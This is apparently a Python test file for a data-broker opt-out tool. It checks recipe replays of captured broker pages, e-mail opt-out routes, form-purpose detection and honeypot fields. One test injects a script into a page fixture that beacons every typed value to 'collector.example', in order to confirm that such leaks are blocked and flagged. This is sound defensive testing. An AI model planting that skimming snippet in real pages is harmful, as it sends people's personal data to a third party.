"""Real brokers' pages (issue 12): every captured page that carries a form is replayed by a recipe's
own test, and ``optout recipe check`` runs those tests offline.

The captures (The Markup / CalMatters, Apache-2.0) and their index.json live in the shared data
folder; each recipe's fixture under brokers/fixtures/ is a byte-identical copy (credited in
brokers/fixtures/README.md). A page whose only forms are a site search, a newsletter or a sales
contact form is covered by the route the page itself gives: an e-mail letter to the address it names
(``optout.email.named_on``), whose test checks the page still names it and that none of the page's
fields gets the person's values.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml

from optout.recipe.check import check_recipes
from optout.recipe.loader import load_catalogue, load_recipe
from optout.errors import RecipeError
from optout.settings import Settings

from .conftest import requires_browser

REAL = Path("/work/shared/data/real-pages")
BROKERS = Path(__file__).resolve().parent.parent / "brokers"
INDEX = json.loads((REAL / "index.json").read_text()) if (REAL / "index.json").is_file() else []
WITH_FORMS = [e for e in INDEX if e["forms"]]


def replaying_tests() -> dict[str, list[tuple[str, str]]]:
    """``{fixture path under brokers/fixtures: [(recipe id, test name)]}`` for every ``flow: optout``
    test of the hand-written recipes in brokers/."""
    out: dict[str, list[tuple[str, str]]] = {}
    for path in sorted(BROKERS.glob("*.yaml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for t in data.get("tests") or []:
            if t.get("flow") == "optout" and t.get("page"):
                out.setdefault(t["page"], []).append((data["id"], t["name"]))
    return out


def settings(tmp_path) -> Settings:
    return Settings(data_dir=tmp_path / "data", browser={"step_timeout": 8, "navigation_timeout": 15})


def rows_of(capsys) -> list[dict]:
    lines = capsys.readouterr().out.splitlines()
    return json.loads("\n".join(lines[next(i for i, x in enumerate(lines) if x == "["):]))


@pytest.mark.skipif(not INDEX, reason=f"the real-page captures are not on this machine ({REAL})")
@pytest.mark.parametrize("entry", WITH_FORMS, ids=[e["file"] for e in WITH_FORMS])
def test_every_real_page_with_a_form_is_replayed_by_a_recipe_test(entry):
    real = (REAL / entry["file"]).read_bytes()
    copies = [p.relative_to(BROKERS / "fixtures").as_posix() for p in (BROKERS / "fixtures").rglob("*.html")
              if p.read_bytes() == real]
    assert copies, f"no copy of {entry['file']} under brokers/fixtures/"
    tests = replaying_tests()
    assert any(c in tests for c in copies), f"no recipe's flow: optout test replays {copies}"


E_MAIL_RECIPES = ["5x5coop", "comscore", "medprosystems"]


async def test_the_e_mail_routes_hold_on_their_pages_offline(tmp_path, capsys):
    """The http channel, no Chromium: the page still names the address, its forms get nothing."""
    code = await check_recipes(load_catalogue([BROKERS]), E_MAIL_RECIPES, settings(tmp_path), as_json=True)
    rows = rows_of(capsys)
    assert code == 0, rows
    assert sorted(r["recipe"] for r in rows if r["result"] == "ok") == E_MAIL_RECIPES


@requires_browser
async def test_recipe_check_replays_every_real_form_page_offline(tmp_path, capsys):
    """Every recipe whose test replays a real page passes ``recipe check``: served by the replay
    (``optout.recipe.replay``), every request off the recipe's domains refused."""
    ids = sorted({rid for tests in replaying_tests().values() for rid, _ in tests})
    assert {"clientcommand", "uspeoplesearch", "brightcheck", "fourthwall", *E_MAIL_RECIPES} <= set(ids)
    s = settings(tmp_path)
    code = await check_recipes(load_catalogue([BROKERS]), ids, s, as_json=True)
    rows = rows_of(capsys)
    assert code == 0, [r for r in rows if r["result"] != "ok"]
    assert {r["recipe"] for r in rows} == set(ids)


def _medpro_variant(tmp_path, page_edit=None, recipe_edit=None) -> Path:
    """A copy of the MedPro recipe and its page, each changed as given."""
    d = tmp_path / "brokers"
    shutil.copytree(BROKERS / "fixtures" / "medprosystems", d / "fixtures" / "medprosystems")
    page = d / "fixtures" / "medprosystems" / "privacy-policy.html"
    if page_edit:
        page.write_text(page_edit(page.read_text(encoding="utf-8")), encoding="utf-8")
    text = (BROKERS / "medprosystems.yaml").read_text(encoding="utf-8")
    (d / "medprosystems.yaml").write_text(recipe_edit(text) if recipe_edit else text, encoding="utf-8")
    return d


@pytest.mark.parametrize("edit, problem", [
    # the page no longer gives the address (the broker moved its requests elsewhere)
    (lambda html: html.replace("Privacy@MedProSystems.com", "a form on our new portal"),
     "does not show the expected text 'Privacy@MedProSystems.com'"),
    # the address is still in the HTML (and in each link's mailto:), but only where nobody sees it
    (lambda html: html.replace(">Privacy@MedProSystems.com</a>",
                               '><span style="display:none">Privacy@MedProSystems.com</span></a>'),
     "does not show the expected text"),
])
async def test_an_e_mail_route_whose_page_changed_fails_its_test(tmp_path, capsys, edit, problem):
    d = _medpro_variant(tmp_path, page_edit=edit)
    code = await check_recipes(load_catalogue([d]), ["medprosystems"], settings(tmp_path), as_json=True)
    rows = rows_of(capsys)
    assert code == 1 and rows[0]["result"] == "FAIL", rows
    assert problem in rows[0]["detail"]


async def test_an_e_mail_route_test_that_would_fill_the_newsletter_fails(tmp_path, capsys):
    """The test's ``filled`` is not decoration: a field holding a value fails it (here the page was
    captured with a value in the newsletter's e-mail field)."""
    d = _medpro_variant(tmp_path, page_edit=lambda html: html.replace(
        "name='input_1' id='input_14_1' value=''", "name='input_1' id='input_14_1' value='jordan.testperson@example.org'"))
    code = await check_recipes(load_catalogue([d]), ["medprosystems"], settings(tmp_path), as_json=True)
    rows = rows_of(capsys)
    assert code == 1 and "#input_14_1 does not hold the expected value" in rows[0]["detail"], rows


def test_named_on_must_be_on_the_broker_s_domains(tmp_path):
    d = _medpro_variant(tmp_path, recipe_edit=lambda t: t.replace(
        "named_on: https://www.medprosystems.com/privacy-policy/", "named_on: https://elsewhere.example/privacy"))
    with pytest.raises(RecipeError, match=r"optout.email.named_on \(line \d+\): goes to a host the recipe does not"):
        load_recipe(d / "medprosystems.yaml")


async def test_probe_checks_an_e_mail_route_s_page_live(lab, tmp_path):
    """``recipe probe`` on an e-mail recipe with ``named_on`` reads the live page (here the lab's
    mail-only broker's privacy page): ok while it names the address, failed once it does not."""
    from optout.recipe.probe import probe_recipe

    text = (BROKERS / "lab" / "mailonly.yaml").read_text(encoding="utf-8")
    text = text.replace("    identifiers: [full_name, email]\n",
                        "    identifiers: [full_name, email]\n    named_on: http://mailonly.lab.test/privacy\n")
    (tmp_path / "mailonly.yaml").write_text(text, encoding="utf-8")
    s = Settings(data_dir=tmp_path / "data", lab_url=lab.url, network={"retries": 0})
    ok = await probe_recipe(load_recipe(tmp_path / "mailonly.yaml"), s)
    assert ok.result == "ok", ok
    (tmp_path / "mailonly.yaml").write_text(text.replace("to: privacy@", "to: removals@"), encoding="utf-8")
    failed = await probe_recipe(load_recipe(tmp_path / "mailonly.yaml"), s)
    assert failed.result == "failed" and "removals@mailonly.lab.test" in failed.detail, failed
    assert lab.sites["mailonly"].received == []  # a probe sends nothing


# ---- reading the forms as a person would (what `recipe record` shows and `recipe new --page` uses) --


# file -> (each form's purpose, the form an opt-out recipe would fill, or None), checked by hand
PURPOSES = {
    "5x5data.com-20250731.html": ([None], None),  # the header's site search (page furniture)
    "comscore.com-20250731.html": ([None], None),  # the header's site search
    "medprosystems.com-20250731.html": (["newsletter"], None),  # "Subscribe to MedPro's Newsletter"
    "clientcommand.com-20250731.html": (["sales", "sales", "contact"], None),  # a demo, a test drive, a pop-up
    "brightcheck.com-20250214.html": ([None, "privacy request"], 1),  # the web archive's toolbar, the form
    "fourthwall.tv-20250721.html": ([None, "privacy request", "newsletter"], 1),
    "uspeoplesearch.com-20250731.html": ([None, None], 0),
}


@pytest.mark.skipif(not INDEX, reason=f"the real-page captures are not on this machine ({REAL})")
@pytest.mark.parametrize("file", sorted(PURPOSES))
def test_a_newsletter_sales_or_contact_form_is_never_taken_for_the_opt_out(file):
    from optout.recipe.detect import analyse
    from optout.recipe.kit import scaffold

    report = analyse((REAL / file).read_text(encoding="utf-8", errors="replace"))
    purposes, chosen = PURPOSES[file]
    assert [f.purpose for f in report.forms] == purposes
    assert (report.opt_out_form.index if report.opt_out_form else None) == chosen
    if chosen is None:  # the scaffold leaves the form to the author rather than fill a newsletter
        text = scaffold("x", "https://broker.example/privacy", page="x/p.html", report=report)
        assert "TODO: the opt-out form's fields" in text


def test_akismet_s_hidden_field_is_a_honeypot():
    """Client Command's forms carry Akismet's trap (a textarea labelled "Δ" in a container hidden
    with display:none !important): never a field to fill."""
    from optout.recipe.detect import analyse

    report = analyse((BROKERS / "fixtures" / "clientcommand" / "privacy-notice.html").read_text(encoding="utf-8"))
    for form in report.forms:
        assert "Δ" in [x.caption for x in form.fields if x.honeypot]
        assert "Δ" not in [x.caption for x in form.visible_fields]


@requires_browser
@pytest.mark.parametrize("value, leaks", [("e.target.value", True), ("'typing'", False)])
async def test_a_replayed_page_that_sends_the_person_s_values_elsewhere_fails_its_test(tmp_path, capsys, value, leaks):
    """"Send only to declared hosts" is checked, not assumed: the USPeopleSearch capture with a
    script that beacons what is typed to another host fails the recipe's test (the request itself
    is blocked); the same beacon carrying nothing of the person's is blocked quietly."""
    d = tmp_path / "brokers"
    shutil.copytree(BROKERS / "fixtures" / "uspeoplesearch", d / "fixtures" / "uspeoplesearch")
    shutil.copy(BROKERS / "uspeoplesearch.yaml", d)
    page = d / "fixtures" / "uspeoplesearch" / "purge-my-data.html"
    beacon = ("<script>document.addEventListener('input', e => navigator.sendBeacon("
              f"'https://collector.example/c?v=' + encodeURIComponent({value})))</script></body>")
    page.write_text(page.read_text(encoding="utf-8").replace("</body>", beacon, 1), encoding="utf-8")
    code = await check_recipes(load_catalogue([d]), ["uspeoplesearch"], settings(tmp_path), as_json=True)
    rows = rows_of(capsys)
    if leaks:
        assert code == 1 and "send the person's data to collector.example" in rows[0]["detail"], rows
    else:
        assert code == 0, rows
